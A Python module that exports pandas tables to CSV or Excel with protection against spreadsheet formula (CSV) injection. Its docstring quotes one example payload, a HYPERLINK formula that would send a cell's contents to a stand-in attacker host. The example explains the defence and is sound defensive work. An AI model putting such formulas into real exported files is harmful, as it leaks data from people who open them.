"""Tables exported beside a report (CSV or Excel) that a spreadsheet can open without running anything.

A customer named ``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` must reach the
variance register as text, not as a live formula; nor may a CSV cell start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return, which Excel and LibreOffice read as a formula
(OWASP "CSV injection"). :func:`export_table` is the one way the pack writes such files:

- **CSV**: a text cell starting with one of those characters gets a single quote in front
  (``'=HYPERLINK(...)``), the OWASP advice; a text cell that is a plain number (``-12.5``) is
  left alone, and numeric columns are written as numbers (a negative amount stays ``-1234.5``).
  A text cell already starting with a quote before such a character gets one more quote, so
  :func:`read_table` gives back exactly what was exported. Lines end in CRLF (RFC 4180), so a
  carriage return inside a value is quoted instead of splitting the row.
- **Excel** (.xlsx/.xlsm): every text cell is written as a string (never a formula, whatever it
  starts with); a dangerous one also carries Excel's own invisible quote prefix, so it stays text
  when someone edits it. Characters Excel cannot hold (C0 controls but tab and line breaks) are
  dropped rather than crashing the export.

It sits in core because reports, the action tracker and the store all export tables.
"""
from __future__ import annotations

import re
from pathlib import Path
from typing import Mapping

import pandas as pd

__all__ = ["export_table", "read_table", "neutralise", "unneutralise", "FORMULA_START"]

#: Characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_DANGER = re.compile(r"^(?:'*)[=+\-@\t\r]")  # with any quotes already in front (escaped again)
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
_QUOTED = re.compile(r"^'+[=+\-@\t\r]")
_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _text_columns(df: pd.DataFrame) -> list:
    return [c for c in df.columns
            if pd.api.types.is_object_dtype(df[c]) or pd.api.types.is_string_dtype(df[c])
            or isinstance(df[c].dtype, pd.CategoricalDtype)]


def _match(s: pd.Series, pattern: re.Pattern) -> pd.Series:
    """True where ``s`` holds text matching ``pattern`` (numbers, dates and missing values: False)."""
    try:
        return s.str.match(pattern, na=False).astype(bool)
    except AttributeError:  # no text at all in the column (e.g. all missing): .str refuses it
        return pd.Series(False, index=s.index)


def _dangerous(s: pd.Series) -> pd.Series:
    """True where a value is text that a spreadsheet would read as a formula."""
    return _match(s, _DANGER) & ~_match(s, _PLAIN_NUMBER)


def _prefixed(s: pd.Series, where: pd.Series, fn) -> pd.Series:
    s = s.astype(object)
    return s.where(~where, s[where].astype(str).map(fn))


def neutralise(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells cannot start a formula: ``'`` put in front where needed.

    Only text is touched: numbers, dates and missing values pass through, so ``-1234.5`` stays a
    number and ``"-12.5"`` (a number written as text) stays as it is.

    >>> neutralise(pd.DataFrame({"name": ["=1+1", "Acme", "-cmd"], "amount": [-5.0, 1.0, 2.0]}))["name"].tolist()
    ["'=1+1", 'Acme', "'-cmd"]
    """
    out = df.copy()
    for c in _text_columns(out):
        bad = _dangerous(out[c])
        if bad.any():
            out[c] = _prefixed(out[c], bad, lambda v: "'" + v)
    return out


def unneutralise(df: pd.DataFrame) -> pd.DataFrame:
    """The inverse of :func:`neutralise` on a table read back from CSV: one leading quote dropped."""
    out = df.copy()
    for c in _text_columns(out):
        quoted = _match(out[c], _QUOTED)
        if quoted.any():
            out[c] = _prefixed(out[c], quoted, lambda v: v[1:])
    return out


def _write_sheet(xw: pd.ExcelWriter, df: pd.DataFrame, sheet_name: str, index: bool) -> None:
    clean = df.copy()
    for c in _text_columns(clean):
        illegal = _match(clean[c], re.compile(".*" + _ILLEGAL_XLSX.pattern, re.S))
        if illegal.any():  # openpyxl raises IllegalCharacterError on these, naming nothing
            clean[c] = _prefixed(clean[c], illegal, lambda v: _ILLEGAL_XLSX.sub("", v))
    clean.to_excel(xw, sheet_name=sheet_name, index=index)
    ws = xw.sheets[sheet_name]
    for row in ws.iter_rows():
        for cell in row:
            v = cell.value
            if isinstance(v, str) and (cell.data_type == "f" or v.startswith(FORMULA_START)):
                cell.data_type = "s"  # openpyxl takes any string starting with '=' for a formula
                cell.quotePrefix = True  # and Excel keeps it text when the cell is edited


def export_table(df: pd.DataFrame, path: str | Path, *, sheet_name: str = "Data", index: bool = False,
                 more_sheets: Mapping[str, pd.DataFrame] | None = None) -> Path:
    """Write ``df`` to ``path`` as CSV (``.csv``) or Excel (``.xlsx``/``.xlsm``), safe to open.

    Args:
        df: the table; text cells are neutralised (see the module docstring), numbers stay numbers.
        path: the file; its suffix chooses the format. Its folder is created if needed.
        sheet_name: the Excel sheet holding ``df``.
        index: write the index as a first column (as ``DataFrame.to_csv``).
        more_sheets: further Excel sheets (name -> table), e.g. a "How to edit" sheet; CSV has none.
    Returns:
        The path written.
    Raises:
        ValueError: another suffix, or ``more_sheets`` with a CSV.
    """
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in (".csv", ".xlsx", ".xlsm"):
        raise ValueError(f"{path.name}: export to a .csv or .xlsx file")
    path.parent.mkdir(parents=True, exist_ok=True)
    if suffix == ".csv":
        if more_sheets:
            raise ValueError(f"{path.name}: a CSV file holds one table; export extra sheets to .xlsx")
        # CRLF, as RFC 4180 and Excel write it: Python's csv module quotes a field only when it holds a
        # character of the line terminator, so with '\n' alone a carriage return in a name split the row
        neutralise(df).to_csv(path, index=index, lineterminator="\r\n")
        return path
    with pd.ExcelWriter(path, engine="openpyxl") as xw:
        _write_sheet(xw, df, sheet_name, index)
        for name, extra in (more_sheets or {}).items():
            _write_sheet(xw, extra, name, False)
    return path


def read_table(path: str | Path, **read_csv_kwargs) -> pd.DataFrame:
    """A CSV written by :func:`export_table`, with its text as it was before export (quotes dropped).

    ``read_csv_kwargs`` go to :func:`pandas.read_csv` (e.g. ``dtype=str``, ``keep_default_na=False``).
    """
    return unneutralise(pd.read_csv(path, **read_csv_kwargs))
